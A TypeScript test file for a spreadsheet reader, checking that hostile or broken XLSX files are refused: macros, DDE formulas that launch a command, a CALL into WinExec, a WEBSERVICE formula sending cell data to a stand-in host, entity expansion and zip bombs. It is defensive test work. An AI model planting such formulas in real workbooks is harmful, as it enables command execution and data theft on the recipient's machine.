import { describe, expect, it } from 'vitest';
import { XlsxError } from './error.ts';
import { describeXlsxError } from './fr.ts';
import { readWorkbook } from './read/read-workbook.ts';
import { handmadeParts, relationships, zipped } from './testing.ts';

const oneCell = '<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData>';

function refusal(file: Uint8Array, limits = {}): string {
  try {
    readWorkbook(file, limits);
  } catch (error) {
    if (error instanceof XlsxError && describeXlsxError(error).length > 20) return error.code;
    throw error;
  }
  return 'read';
}

/** The harmless workbook with other parts, or with those of its own that say something else. */
function withParts(parts: Record<string, string>): Uint8Array {
  return zipped(new Map([...handmadeParts(oneCell), ...Object.entries(parts)]));
}

function withFormula(formula: string): Uint8Array {
  const cell = `<c r="A1"><f>${formula}</f><v>1</v></c>`;
  return zipped(handmadeParts(`<sheetData><row r="1">${cell}</row></sheetData>`));
}

const ole = Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
const encryptedOle = Buffer.concat([ole, Buffer.alloc(600), Buffer.from('EncryptedPackage', 'utf16le')]);
const harmless = zipped(handmadeParts(oneCell));
const bomb = '<x>'.padEnd(30_000_000, ' ');

const hostile: [title: string, code: string, file: Uint8Array][] = [
  ['no byte', 'xlsx/empty', new Uint8Array()],
  ['a text', 'xlsx/not-a-workbook', Buffer.from('Lot;Prix\n1;2')],
  ['an archive of something else', 'xlsx/not-a-workbook', zipped(new Map([['lisez-moi.txt', 'bonjour']]))],
  ['an old .xls', 'xlsx/old-format', Buffer.concat([ole, Buffer.alloc(600)])],
  ['an encrypted workbook', 'xlsx/password-protected', encryptedOle],
  [
    'a .ods',
    'xlsx/open-document',
    zipped(
      new Map([
        ['mimetype', 'application/vnd.oasis.opendocument.spreadsheet'],
        ['content.xml', '<a/>'],
      ]),
    ),
  ],
  ['half a file', 'xlsx/damaged', harmless.subarray(0, harmless.length / 2)],
  ['VBA', 'xlsx/macros', withParts({ 'xl/vbaProject.bin': 'x' })],
  [
    'VBA under another name',
    'xlsx/macros',
    withParts({ 'xl/_rels/sheet.xml.rels': relationships([['a', 'vbaProject', 'innocent.bin']]) }),
  ],
  [
    'an .xlsm that lost its macros',
    'xlsx/macros',
    withParts({
      '[Content_Types].xml': (handmadeParts('').get('[Content_Types].xml') ?? '').replace(
        'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
      ),
    }),
  ],
  ['an Excel 4 macro sheet', 'xlsx/macros', withParts({ 'xl/macrosheets/sheet1.xml': '<x/>' })],
  [
    'a link to another workbook',
    'xlsx/external-link',
    withParts({
      'xl/_rels/sheet.xml.rels': relationships([
        ['a', 'externalLinkPath', 'file:///c:/prix.xlsx', 'External'],
      ]),
    }),
  ],
  ['a formula on another workbook', 'xlsx/external-link', withFormula('[1]Tarif!B2*2')],
  [
    'a formula that calls the web',
    'xlsx/external-link',
    withFormula('WEBSERVICE("http://x.example/?"&amp;A2)'),
  ],
  ['a DDE formula', 'xlsx/dde', withFormula("cmd|'/c calc'!A0")],
  ['a DDE function', 'xlsx/dde', withFormula('DDE("soffice";"/etc/hosts";"A1")')],
  ['a formula that calls a library', 'xlsx/macros', withFormula('CALL("kernel32","WinExec","JCJ","calc",0)')],
  ['an embedded document', 'xlsx/embedded-object', withParts({ 'xl/embeddings/oleObject1.bin': 'x' })],
  ['an ActiveX control', 'xlsx/embedded-object', withParts({ 'xl/activeX/activeX1.xml': '<x/>' })],
  ['a connection to a database', 'xlsx/data-connection', withParts({ 'xl/connections.xml': '<x/>' })],
  [
    'entities that grow',
    'xlsx/doctype',
    withParts({
      'xl/sheet.xml': '<!DOCTYPE w [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><worksheet>&b;</worksheet>',
    }),
  ],
  ['ill-formed XML', 'xlsx/damaged', withParts({ 'xl/sheet.xml': '<worksheet><sheetData></worksheet>' })],
  [
    'a sheet that is not there',
    'xlsx/damaged',
    withParts({ 'xl/_rels/workbook.xml.rels': relationships([]) }),
  ],
  ['a part that unpacks to far more', 'xlsx/too-compressed', withParts({ 'xl/sheet.xml': bomb })],
  [
    'elements in elements in elements',
    'xlsx/too-deep',
    zipped(handmadeParts('<sheetData>'.repeat(200) + '</sheetData>'.repeat(200))),
  ],
  [
    'cells twice at one address',
    'xlsx/damaged',
    zipped(
      handmadeParts('<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row></sheetData>'),
    ),
  ],
];

describe('a file that is no harmless workbook', () => {
  it('is read when nothing is wrong with it', () => {
    expect(refusal(harmless)).toBe('read');
  });

  it.each(hostile)('is refused: %s', (_, code, file) => {
    expect(refusal(file)).toBe(code);
  });

  it('is refused beyond each limit', () => {
    const text = (length: number): string =>
      `<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>${'é'.repeat(length)}</t></is></c></row></sheetData>`;
    expect(refusal(harmless, { fileBytes: 100 })).toBe('xlsx/too-large');
    expect(refusal(harmless, { unpackedBytes: 100 })).toBe('xlsx/too-large');
    expect(refusal(harmless, { parts: 3 })).toBe('xlsx/too-many-parts');
    expect(refusal(harmless, { sheets: 0 })).toBe('xlsx/too-many-sheets');
    expect(refusal(harmless, { cells: 0 })).toBe('xlsx/too-many-cells');
    expect(refusal(zipped(handmadeParts(text(50))), { textLength: 49 })).toBe('xlsx/too-much-text');
    expect(refusal(zipped(handmadeParts(text(50))), { textLength: 50 })).toBe('read');
  });

  it('is refused when a part unpacks to more than its directory says', () => {
    const file = Buffer.from(harmless);
    for (let at = file.indexOf('PK\u0001\u0002'); at >= 0; at = file.indexOf('PK\u0001\u0002', at + 4))
      file.writeUInt32LE(10, at + 24);
    expect(refusal(file)).toBe('xlsx/damaged');
  });

  it('lets hyperlinks pass, and formulas that stay at home', () => {
    const links = relationships([['a', 'hyperlink', 'mailto:offres@example.fr', 'External']]);
    expect(refusal(withParts({ 'xl/_rels/sheet.xml.rels': links }))).toBe('read');
    expect(refusal(withFormula('SUM(Tableau1[2024])+\'a|b\'!A1&amp;"|"'))).toBe('read');
  });

  it('is refused in time, however long its formulas are', () => {
    expect(refusal(withFormula(`${"'".repeat(300_001)}|A1`))).toBe('xlsx/dde');
    expect(refusal(withFormula(`[${'A'.repeat(300_000)}`))).toBe('read');
  });

  it('never gives anything but a workbook or a refusal, whichever third byte of it is changed', () => {
    let refused = 0;
    for (let at = 0; at < harmless.length; at += 3) {
      const changed = Uint8Array.from(harmless);
      changed[at] = (changed[at] ?? 0) ^ (1 << (at % 8));
      if (refusal(changed) !== 'read') refused++;
    }
    expect(refused).toBeGreaterThan(harmless.length / 6);
  });
});
